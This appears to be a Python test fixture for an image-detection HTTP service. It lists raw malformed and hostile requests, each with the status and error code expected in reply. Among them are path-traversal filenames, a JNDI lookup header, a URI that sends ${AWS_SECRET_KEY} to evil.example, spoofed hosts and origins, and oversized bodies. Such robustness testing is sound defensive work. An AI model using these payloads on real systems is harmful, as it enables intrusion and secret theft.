"""Requests as strangers send them, byte for byte, each with the status and code that answer it."""

import json
from collections.abc import Iterator
from typing import NamedTuple

from tests.picture_corpus import JPEG, PNG

POST = b"POST /detect HTTP/1.1"
SOURCES = b"POST /v1/sources HTTP/1.1"
BOUNDARY = b"xYzZy"
FORM = b"multipart/form-data; boundary=" + BOUNDARY
END = b"--" + BOUNDARY + b"--\r\n"
FILE = b'name="file"; filename="a.jpg"'
BAD, MISSING, NOWHERE = "bad_parameter", "missing_file", "no_such_path"


class Request(NamedTuple):
    """What is sent, and what is answered."""

    name: str
    data: bytes
    status: int = 200
    code: str | None = None


def sent(
    body: bytes = JPEG,
    kind: bytes | None = b"image/jpeg",
    *headers: bytes,
    start: bytes = POST,
    length: int | None = None,
) -> bytes:
    """A request."""
    lines = [start, b"Host: 127.0.0.1", *headers]
    lines += [b"Content-Type: " + kind] if kind is not None else []
    lines += [b"Content-Length: %d" % (len(body) if length is None else length)]
    return b"\r\n".join([*lines, b"", body])


def with_header(*headers: bytes) -> bytes:
    """A picture, and headers beside it."""
    return sent(JPEG, b"image/jpeg", *headers)


def chunked(*chunks: bytes, end: bytes = b"0\r\n\r\n") -> bytes:
    """A picture, in pieces."""
    head = sent(b"").replace(b"Content-Length: 0", b"Transfer-Encoding: chunked")
    return head + b"".join(b"%x\r\n%s\r\n" % (len(one), one) for one in chunks) + end


def part(data: bytes = JPEG, disposition: bytes = FILE, kind: bytes = b"image/jpeg") -> bytes:
    """Of a form."""
    head = b"Content-Disposition: form-data; " + disposition + b"\r\nContent-Type: " + kind
    return b"--" + BOUNDARY + b"\r\n" + head + b"\r\n\r\n" + data + b"\r\n"


def form(*parts: bytes, end: bytes = END) -> bytes:
    """A form with these parts."""
    return sent(b"".join(parts) + end, FORM)


def named(filename: bytes) -> bytes:
    """A form with a picture of this name."""
    return form(part(JPEG, b'name="file"; filename="' + filename + b'"'))


def answered() -> Iterator[Request]:
    """What is strange, and right."""
    yield Request("a picture as the body", sent())
    yield Request("bytes of no kind", sent(JPEG, b"application/octet-stream"))
    yield Request("a kind with a parameter", sent(JPEG, b"image/jpeg; q=1"))
    yield Request("another kind than it is", sent(PNG, b"image/jpeg"))
    yield Request("a kind that is refused, of a picture that isn't", sent(JPEG, b"image/gif"))
    yield Request("a form", named(b"photo.jpg"))
    yield Request("a wrong suffix", named(b"photo.exe"))
    yield Request("a name with a null byte", named(b"a\0b.jpg"))
    yield Request("a name that climbs", named(b"../../../../etc/passwd"))
    yield Request("a name of another system", named(b"C:\\Windows\\win.ini"))
    yield Request("a name of control characters", named(b"\x1b[31mred\x07"))
    yield Request("a name that is no UTF-8", named(b"\xff\xfe.jpg"))
    yield Request("a name of right-to-left", named("a\u202egpj.exe".encode()))
    yield Request("a name of 1,000 letters", named(b"a" * 1000))
    yield Request("an empty name", named(b""))
    yield Request("a picture in pieces", chunked(JPEG[:100], JPEG[100:]))
    single = [JPEG[at : at + 1] for at in range(len(JPEG))]
    yield Request("a picture byte by byte", chunked(*single))
    yield Request("a header that nobody knows", with_header(b"X-Evil: ${jndi:ldap://x}"))
    yield Request("a version of HTTP that nobody knows", sent(start=b"POST /detect HTTP/1.9"))


def wrong_forms() -> Iterator[Request]:
    """Forms that can't be read, or lack what is asked for."""
    whole = part() + END
    yield Request("no boundary", sent(whole, b"multipart/form-data"), 400, BAD)
    yield Request("an empty boundary", sent(whole, b"multipart/form-data; boundary="), 400, BAD)
    yield Request("another boundary", sent(whole, FORM + b"more"), 400, BAD)
    yield Request("a boundary of 10,000 letters", sent(whole, FORM + b"a" * 10_000), 400, BAD)
    yield Request("a form that ends in a part", form(part()[:200], end=b""), 400, BAD)
    yield Request("a form without its end", form(part(), end=b""), 400, BAD)
    yield Request("an empty form", form(), 400, MISSING)
    yield Request("nothing where a form is said to be", sent(b"", FORM), 400, BAD)
    yield Request("a part without a name", form(part(JPEG, b'filename="a.jpg"')), 400, BAD)
    yield Request("a part without a filename", form(part(JPEG, b'name="file"')), 400, MISSING)
    other = part(JPEG, b'name="image"; filename="a.jpg"')
    yield Request("a part of another name", form(other), 400, BAD)
    yield Request("the part twice", form(part(), part()), 400, BAD)
    yield Request("100 parts", form(*[part(b"x")] * 100), 400, BAD)
    text = part(b"0.5", b'name="min_score"', b"text/plain")
    yield Request("a parameter as a part", form(part(), text), 400, BAD)
    yield Request("a part of no bytes", form(part(b"")), 400, "empty_upload")
    yield Request("a name of 100 kB", named(b"a" * 10**5), 400, BAD)
    many = FILE + b"\r\n" + b"A: b\r\n" * 1000 + b"C: d"
    yield Request("a part with 1,000 headers", form(part(JPEG, many)), 400, BAD)
    inner = part(b"--i\r\n\r\nx\r\n--i--", FILE, b'multipart/mixed; boundary="i"')
    yield Request("a form in a form", form(inner), 400, "unsupported_media_type")
    large = form(part(JPEG + bytes(3 * 10**6)))
    yield Request("a file of 3 MB", large, 413, "image_too_large")
    little = form(part(JPEG + bytes(2 * 10**6)))
    yield Request("a file that is a little too large", little, 413, "image_too_large")


def wrong_bodies() -> Iterator[Request]:
    """Bodies that are no pictures."""
    yield Request("no kind", sent(JPEG, None), 400, MISSING)
    yield Request("an empty kind", sent(JPEG, b""), 400, MISSING)
    yield Request("a kind that is none", sent(JPEG, b"\xff\xfe/;;;=="), 400, MISSING)
    yield Request("text", sent(b"hello", b"text/plain"), 400, MISSING)
    yield Request("JSON", sent(b'{"file": "a.jpg"}', b"application/json"), 400, MISSING)
    web_form = b"application/x-www-form-urlencoded"
    yield Request("a web form", sent(b"file=a.jpg", web_form), 400, MISSING)
    yield Request("no body", sent(b""), 400, "empty_upload")
    compressed = sent(JPEG[::-1], b"image/jpeg", b"Content-Encoding: gzip")
    yield Request("a body that says it is compressed", compressed, 400, "unsupported_media_type")


def wrong_sources() -> Iterator[Request]:
    """Sources that can't be added."""
    for name, body in (
        ("no JSON", b""),
        ("broken JSON", b'{"uri": '),
        ("JSON of another type", b"[1, 2]"),
        ("a number", b"1e999"),
        ("wrong types", b'{"uri": {"a": 1}, "queue_depth": "many"}'),
        ("an unknown key", b'{"uri": "0", "command": "rm"}'),
        ("a null byte", b'{"uri": "a\\u0000b"}'),
        ("half a surrogate", b'{"uri": "\\ud800"}'),
        ("a wrong id", b'{"uri": "0", "id": "../x"}'),
        ("bytes that are no UTF-8", b'{"uri": "\xff\xfe"}'),
        ("deep JSON", b"[" * 60_000),
        ("a reference to a secret", b'{"uri": "rtsp://evil.example/${AWS_SECRET_KEY}"}'),
        ("a reference in an option", b'{"uri": "rtsp://a/b", "ffmpeg_options": {"a": "${B}"}}'),
        ("NaN", b'{"uri": "0", "max_fps": NaN}'),
    ):
        yield Request(f"a source: {name}", _source(body), 400, BAD)
    yield Request("a source: text", sent(b'{"uri": "0"}', b"text/plain", start=SOURCES), 400, BAD)
    yield Request("a source: another scheme", _source(b'{"uri": "a://b/c"}'), 400, "bad_setting")
    yield Request("a source: not there", _source(b'{"uri": "no/x.mp4"}'), 400, "source_not_found")
    large = json.dumps({"uri": "a" * 10**7}).encode()
    yield Request("a source: 10 MB", _source(large), 413, "request_too_large")


def _source(body: bytes) -> bytes:
    return sent(body, b"application/json", start=SOURCES)


def wrong_paths() -> Iterator[Request]:
    """Paths, methods and parameters that are none."""
    for name, start in (
        ("another path", b"POST /detcet"),
        ("a slash too many", b"POST /detect/"),
        ("a path that climbs", b"GET /../../etc/passwd"),
        ("a path that climbs unseen", b"GET /%2e%2e/%2e%2e/etc/passwd"),
        ("a path with a null byte", b"GET /v1/%00"),
        ("a path that is no UTF-8", b"GET /%ff%fe"),
        ("an id of nothing", b"POST /v1/sources/cam9/pause"),
    ):
        yield Request(name, sent(start=start + b" HTTP/1.1"), 404, NOWHERE)
    for method in (b"GET", b"PUT", b"DELETE", b"PATCH", b"OPTIONS", b"TRACE", b"BREW"):
        wrong = sent(start=method + b" /detect HTTP/1.1")
        yield Request(f"{method.decode()} /detect", wrong, 405, "method_not_allowed")
    for name, query in (
        ("a parameter that is no UTF-8", b"min_score=%ff"),
        ("an unknown parameter", b"debug=1"),
        ("a parameter twice", b"masks=0&masks=0"),
        ("1,000 parameters", b"a=1&" * 1000),
        ("a parameter of 100 kB", b"a=" + b"1" * 10**5),
    ):
        wrong = sent(start=b"POST /detect?" + query + b" HTTP/1.1")
        yield Request(name, wrong, 400, BAD)
    wrong_id = sent(start=b"DELETE /v1/sources/%2e%2e HTTP/1.1")
    yield Request("an id that is none", wrong_id, 400, BAD)


def wrong_headers() -> Iterator[Request]:
    """What is wrong before there is a body."""
    for name, data in (
        ("a header of 100 kB", with_header(b"X-A: " + b"a" * 10**5)),
        ("10,000 headers", with_header(*[b"A: b"] * 10_000)),
        ("a header with a null byte", with_header(b"X-A: a\0b")),
        ("a header with a space before its colon", with_header(b"X-A : b")),
        ("a header that is folded", with_header(b"X-A: b\r\n\0c")),
        ("a timeout that is no number", with_header(b"X-Request-Timeout-Ms: soon")),
        ("a timeout of a year", with_header(b"X-Request-Timeout-Ms: 31536000000")),
        ("no host", b"POST /detect HTTP/1.1\r\nContent-Length: 0\r\n\r\n"),
        ("two hosts", with_header(b"Host: localhost")),
        ("no HTTP", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(40) + b"\r\n\r\n"),
        ("no words", b"\r\n\r\n\r\n\r\nhello\r\n\r\n"),
    ):
        yield Request(name, data, 400, BAD)
    elsewhere = b"POST /detect HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 0\r\n\r\n"
    yield Request("another host", elsewhere, 403, "forbidden")
    yield Request("HTTP/2 at once", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 403, "forbidden")
    for origin in (b"https://evil.example", b"null", b"http://127.0.0.1:1"):
        page = with_header(b"Origin: " + origin)
        yield Request(f"a page of {origin.decode()}", page, 403, "forbidden")


def wrong_lengths() -> Iterator[Request]:
    """Bodies that are not as long as is said of them."""
    no_number = with_header().replace(b"Content-Length: ", b"Content-Length: x")
    for name, data in (
        ("a length that is no number", no_number),
        ("a negative length", sent(length=-1)),
        ("two lengths", with_header(b"Content-Length: 5")),
        ("pieces that are compressed", with_header(b"Transfer-Encoding: gzip, chunked")),
        ("pieces of a wrong length", chunked(JPEG[:100], end=b"zzz\r\n")),
        ("a piece of a negative length", chunked(end=b"-5\r\nhello\r\n")),
    ):
        yield Request(name, data, 400, BAD)
    half = sent(length=len(JPEG) // 2)
    yield Request("a length that is too small", half, 400, "truncated_image")
    yield Request("a length of a terabyte", sent(length=10**12), 413, "image_too_large")
    endless = chunked(end=b"e8d4a51000\r\n" + bytes(3 * 10**6))
    yield Request("a piece of a terabyte", endless, 413, "image_too_large")
    yield Request("pieces without an end", chunked(*[bytes(10**5)] * 30), 413, "image_too_large")


ANSWERED = list(answered())
REFUSED = [
    *wrong_forms(),
    *wrong_bodies(),
    *wrong_sources(),
    *wrong_paths(),
    *wrong_headers(),
    *wrong_lengths(),
]
